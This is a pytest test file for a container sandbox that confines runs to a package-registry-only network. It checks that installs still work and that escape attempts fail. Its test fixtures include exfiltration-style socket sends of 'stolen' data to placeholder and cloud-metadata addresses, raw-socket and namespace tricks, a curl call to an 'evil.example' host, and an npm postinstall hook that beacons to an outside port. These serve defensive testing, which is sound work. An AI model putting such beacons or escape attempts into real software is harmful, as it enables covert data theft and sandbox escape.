# SPDX-License-Identifier: Apache-2.0
"""A sealed network: from a box nothing gets out but what is for the registry, and installs work as ever."""

from __future__ import annotations

import json
import os
import socket
import struct
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from engine_client import docker

if TYPE_CHECKING:
    from conftest import Fpbox
else:
    Fpbox = Any

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("nothing_left")]

SEALED = ("--network", "registry", "--linger", "1")
ESCAPES = """
import ctypes, errno, socket, struct, sys

def attempt(what, action):
    try:
        got = action()
    except OSError as error:
        got = errno.errorcode.get(error.errno, str(error))
    print(what, got, flush=True)

def tcp(family, place, device=None):
    def action():
        with socket.socket(family, socket.SOCK_STREAM) as out:
            out.settimeout(2)
            if device:
                out.setsockopt(socket.SOL_SOCKET, 25, device)
            out.connect(place)
            out.sendall(b"stolen")
            return "connected"
    return action

def udp(family, place, device=None, options=()):
    def action():
        with socket.socket(family, socket.SOCK_DGRAM) as out:
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            if device:
                out.setsockopt(socket.SOL_SOCKET, 25, device)
            for option in options:
                out.setsockopt(*option)
            out.sendto(b"stolen", place)
            return "sent"
    return action

V4, V6 = socket.AF_INET, socket.AF_INET6
bridge, listening = sys.argv[1], int(sys.argv[2])
broadcast = bridge.rsplit(".", 2)[0] + ".255.255"
attempt("bridge", tcp(V4, (bridge, listening)))
attempt("bridge-bound", tcp(V4, (bridge, listening), b"eth0"))
attempt("address", tcp(V4, ("240.1.2.3", 4444)))
attempt("address-bound", tcp(V4, ("240.1.2.3", 4444), b"eth0"))
attempt("address6", tcp(V6, ("2001:db8::7", 4444)))
attempt("metadata", tcp(V4, ("169.254.169.254", 80)))
attempt("metadata-bound", tcp(V4, ("169.254.169.254", 80), b"eth0"))
attempt("neighbour6", tcp(V6, ("fe80::1", 80, 0, socket.if_nametoindex("eth0"))))
attempt("udp", udp(V4, ("240.1.2.3", 4445)))
attempt("udp6", udp(V6, ("2001:db8::7", 4445)))
attempt("udp-bridge-bound", udp(V4, (bridge, listening), b"eth0"))
attempt("udp-broadcast", udp(V4, (broadcast, listening)))
attempt("udp-multicast", udp(V4, ("224.0.0.251", 5353), b"eth0"))
eth0 = struct.pack("!I", socket.if_nametoindex("eth0"))
attempt("udp-interface-bound", udp(V4, ("240.1.2.3", 4445), None, [(0, 50, eth0)]))
attempt("raw", lambda: socket.socket(V4, socket.SOCK_RAW, 255))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
marking = socket.socket(V4, socket.SOCK_DGRAM)
attempt("mark", lambda: marking.setsockopt(socket.SOL_SOCKET, 36, 0x66706278))
def unshare():
    if libc.unshare(0x10000000 | 0x40000000):
        raise OSError(ctypes.get_errno(), "")

libc = ctypes.CDLL(None, use_errno=True)
attempt("namespace", unshare)
"""


@contextmanager
def captured(interface: str) -> Iterator[list[tuple[str, bytes]]]:
    """Capture what containers send on the host's side of the bridge, by the sender's hardware address."""
    packets: list[tuple[str, bytes]] = []
    done = threading.Event()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as taken:
        taken.bind((interface, 0))
        taken.settimeout(0.2)

        def take() -> None:
            while not done.is_set():
                try:
                    frame = taken.recv(65535)
                except TimeoutError:
                    continue
                packets.append((frame[6:12].hex(":"), frame))

        thread = threading.Thread(target=take)
        thread.start()
        try:
            yield packets
        finally:
            time.sleep(0.5)
            done.set()
            thread.join()


def destinations(packets: list[tuple[str, bytes]], sender: str) -> set[tuple[str, int]]:
    """Return where a sender's IP packets went: address and port. What is no IPv4 counts as its type."""
    found = set()
    for source, frame in packets:
        kind = frame[12:14]
        if source != sender or kind == b"\x08\x06":  # an ARP request asks for the way to the router
            continue
        if kind != b"\x08\x00":
            found.add((f"type {kind.hex()}", 0))
            continue
        head = 14 + (frame[14] & 15) * 4
        port = struct.unpack_from("!H", frame, head + 2)[0] if frame[23] in (6, 17) else 0
        found.add((socket.inet_ntoa(frame[30:34]), port))
    return found


def sealed(fpbox: Fpbox, *arguments: str, **options: Any) -> Any:
    return fpbox("run", *SEALED, "-o", f"json={fpbox.report_file}", *arguments, **options)


def gateway_of(fpbox: Fpbox) -> str:
    """Wait for the running gateway of the run that was started; return its container."""

    def running() -> str:
        every = docker("ps", "--format", "{{.Names}}").split()
        return next((name for run in fpbox.run_ids for name in every if name == f"fpbox-{run}-gateway"), "")

    give_up = time.monotonic() + 90
    while not (found := running()):
        assert time.monotonic() < give_up, "waited in vain for a gateway"
        time.sleep(0.05)
    return found


def test_nothing_leaves_by_any_way(fpbox: Fpbox, bridge: tuple[str, str]) -> None:
    if os.geteuid():
        pytest.skip("a capture on the bridge takes root")
    interface, address = bridge
    with (
        socket.create_server((address, 0)) as listener,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
        captured(interface) as packets,
    ):
        port = listener.getsockname()[1]
        datagrams.bind(("", port))
        for one in (listener, datagrams):
            one.settimeout(0.1)
        process = fpbox.start(
            "run", *SEALED, "--no-project", "-o", f"json={fpbox.report_file}",
            "python3", "-c", ESCAPES, address, str(port),
        )  # fmt: skip
        sender = docker("inspect", "-f", "{{.NetworkSettings.MacAddress}}", gateway_of(fpbox)).strip()
        done = fpbox.end(process)
        for one in (listener, datagrams):
            with pytest.raises(TimeoutError):
                one.accept() if one is listener else one.recv(100)
    said = dict(line.split(" ", 1) for line in done.stdout.decode().splitlines())
    taken_in = ("bridge", "address", "address6", "metadata", "udp", "udp6")
    assert {what: said[what] for what in taken_in} == {
        what: "sent" if what.startswith("udp") else "connected" for what in taken_in
    }
    assert not {"connected", "sent"} & {said[what] for what in said if what.endswith("-bound")}
    for what in ("raw", "packet", "mark", "namespace"):
        assert said[what] in {"EPERM", "EACCES"}, said
    assert destinations(packets, sender) == set()


def test_names_are_answered_and_what_is_sent_is_told_to_nobody_outside(
    fpbox: Fpbox, bridge: tuple[str, str]
) -> None:
    if os.geteuid():
        pytest.skip("a capture on the bridge takes root")
    script = (
        "getent ahostsv4 a.evil.example; curl -s -m 3 http://a.evil.example/x; "
        "python3 -c 'import socket; print(socket.getaddrinfo(\"data.evil.example\", 53)[0][4][0])'"
    )
    with captured(bridge[0]) as packets:
        process = fpbox.start("run", *SEALED, "--no-project", "sh", "-c", script)
        sender = docker("inspect", "-f", "{{.NetworkSettings.MacAddress}}", gateway_of(fpbox)).strip()
        done = fpbox.end(process)
    assert b"STREAM" in done.stdout
    assert destinations(packets, sender) == set()


def npm_registry() -> str:
    """Ask npm where its registry is."""
    asked = subprocess.run(["npm", "config", "get", "registry"], capture_output=True, check=True, cwd="/")
    return asked.stdout.decode().strip()


@pytest.mark.network
def test_npm_install_works_and_only_the_registry_is_reached(fpbox: Fpbox, bridge: tuple[str, str]) -> None:
    project = fpbox.folder / "app"
    project.mkdir()
    beacon = "const s = require('net').connect(4444, '240.9.9.9', () => s.end('x')).on('error', () => 0)"
    (project / "package.json").write_text(
        json.dumps(
            {
                "name": "app",
                "version": "1.0.0",
                "dependencies": {"is-odd": "3.0.1"},
                "scripts": {"postinstall": f'node -e "{beacon}"'},
            }
        )
    )
    host = npm_registry().split("/")[2]
    with captured(bridge[0]) as packets:
        process = fpbox.start(
            "run", *SEALED, "-o", f"json={fpbox.report_file}", "npm", "install", "--no-audit", cwd=project
        )
        sender = docker("inspect", "-f", "{{.NetworkSettings.MacAddress}}", gateway_of(fpbox)).strip()
        done = fpbox.end(process)
    assert done.returncode == 0, done.stderr
    assert b"added 2 packages" in done.stdout
    reached = {(address, port) for address, port in destinations(packets, sender) if port != 53}
    assert reached
    assert {port for _, port in reached} == {443}
    assert "240.9.9.9" not in {address for address, _ in reached}
    assert any(host in note for note in fpbox.report["coverage"]["notes"])


@pytest.mark.network
def test_pip_install_works(fpbox: Fpbox) -> None:
    done = sealed(fpbox, "--no-project", "pip", "install", "-q", "idna==3.7")
    assert done.returncode == 0, done.stderr
    assert fpbox.report["run"]["network"] == "registry"


def test_servers_inside_the_box_work_as_ever(fpbox: Fpbox) -> None:
    script = """
import socket, threading
for family, place in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, None)):
    place = place or socket.gethostbyname(socket.gethostname())
    with socket.create_server((place, 0), family=family) as server:
        threading.Thread(target=lambda: server.accept()[0].sendall(b"here")).start()
        with socket.create_connection(server.getsockname()[:2]) as client:
            print(client.recv(10).decode())
"""
    done = sealed(fpbox, "--no-project", "python3", "-c", script)
    assert done.stdout.split() == [b"here"] * 3, done.stderr


def test_the_death_of_the_gateway_makes_a_run_inconclusive(fpbox: Fpbox) -> None:
    process = fpbox.start(
        "run", *SEALED, "--no-project", "-o", f"json={fpbox.report_file}",
        "python3", "-u", "-c", "import sys, time; print('ready'); time.sleep(8)",
    )  # fmt: skip
    fpbox.until_output(process, b"ready")
    docker("kill", gateway_of(fpbox))
    done = fpbox.end(process)
    assert done.returncode == 4
    assert fpbox.report["verdict"] == "inconclusive"
    assert any("gateway" in one for one in fpbox.report["coverage"]["notes"]) or any(
        "gateway" in one for one in fpbox.report["coverage"].get("trouble", ())
    )


def test_a_host_that_was_asked_for_is_reached_and_only_by_its_port(
    fpbox: Fpbox, bridge: tuple[str, str]
) -> None:
    _, address = bridge
    with socket.create_server((address, 0)) as allowed, socket.create_server((address, 0)) as other:
        for one in (allowed, other):
            one.settimeout(60)
        ports = [one.getsockname()[1] for one in (allowed, other)]
        script = f"""
import socket
for port in {ports}:
    with socket.create_connection(("{address}", port), timeout=5) as out:
        out.sendall(b"hello")
        out.settimeout(2)
        try:
            print(out.recv(10))
        except TimeoutError:
            print("silence")
"""
        threading.Thread(target=_answer, args=(allowed,)).start()
        done = sealed(fpbox, "--no-project", "--allow-host", f"{address}:{ports[0]}", "python3", "-c", script)
        assert done.stdout.splitlines()[0] == b"b'hello'", done.stderr
        other.settimeout(0.1)
        with pytest.raises(TimeoutError):
            other.accept()


def _answer(listener: socket.socket) -> None:
    connection, _ = listener.accept()
    with connection:
        connection.sendall(connection.recv(100))
